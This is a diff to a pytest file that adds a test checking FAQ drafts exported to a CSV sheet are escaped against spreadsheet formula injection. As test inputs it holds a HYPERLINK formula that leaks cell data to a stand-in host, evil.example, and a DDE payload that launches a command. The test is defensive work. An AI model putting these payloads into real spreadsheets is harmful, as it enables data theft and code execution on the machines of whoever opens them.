@@ -15,7 +15,9 @@ import pytest
 
 from assistant.accounts import exchange_today
 from assistant.api.deps import Runtime
+from assistant.persistence.records import StaffRole
 from assistant.settings import PROJECT_ROOT
+from knowledge.loaders import load_source
 from tests.utils.live_app import AgentClient, LiveApp, app_settings, shared_assistant
 from tests.utils.quality import (
     AGENT_REPLY,
@@ -47,7 +49,8 @@ def held(sample_kb, tmp_path_factory) -> Iterator[Held]:
     ).start()
 
     async def create_agent(runtime: Runtime) -> None:
-        await runtime.staff.create_account(AGENT, "吴策", PASSWORD)
+        # A supervisor: FAQ drafts are a supervisor's (test_roles covers an agent's refusal).
+        await runtime.staff.create_account(AGENT, "吴策", PASSWORD, role=StaffRole.SUPERVISOR)
 
     app.call(create_agent)
     week = converse(app, AGENT, PASSWORD)
@@ -214,6 +217,38 @@ async def test_a_curator_answers_a_question_no_agent_saw(agent: AgentClient, hel
     assert refused.json()["error"]["code"] == "nothing_to_draft"
     assert drafted.status_code == 200, drafted.text
     assert sheet_rows(held.sheet)[-1] == [REITS_ELSEWHERE, own, "", "reits", "zh"]
+
+
+async def test_a_drafted_cell_that_would_run_as_a_formula_is_written_as_text(
+    agent: AgentClient, held: Held, tmp_path: Path
+) -> None:
+    """Formula injection (issue 12, finding 9): the curator opens the sheet in Excel."""
+    [cluster] = (await report(agent))["clusters"]
+    example = cluster["examples"][0]
+    formula = '=HYPERLINK("http://evil.example/?leak="&A2,"点此查看")'
+    also_asked = ["+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
+
+    drafted = await agent.post(
+        "/quality/drafts",
+        conversation_id=example["conversation_id"],
+        seq=example["seq"],
+        answer=formula,
+        category="=1+1",
+        also_asked=also_asked,
+    )
+    row = sheet_rows(held.sheet)[-1]
+    lines = held.sheet.read_text("utf-8").splitlines(keepends=True)
+    alone = tmp_path / "drafts.csv"  # this row alone: earlier drafts share its question
+    alone.write_text(lines[0] + lines[-1], "utf-8")
+    ingested = load_source(alone, "drafts.csv")
+
+    assert drafted.status_code == 200, drafted.text
+    assert row[1] == "'" + formula, "no cell starts with = + - @ for a spreadsheet to run"
+    assert row[3] == "'=1+1"
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
+    [unit] = ingested.units
+    assert unit.text == formula, "assistant ingest reads the row back as it was written"
+    assert unit.category == "=1+1"
 
 
 async def test_a_draft_from_no_such_conversation_is_not_found(agent: AgentClient) -> None:
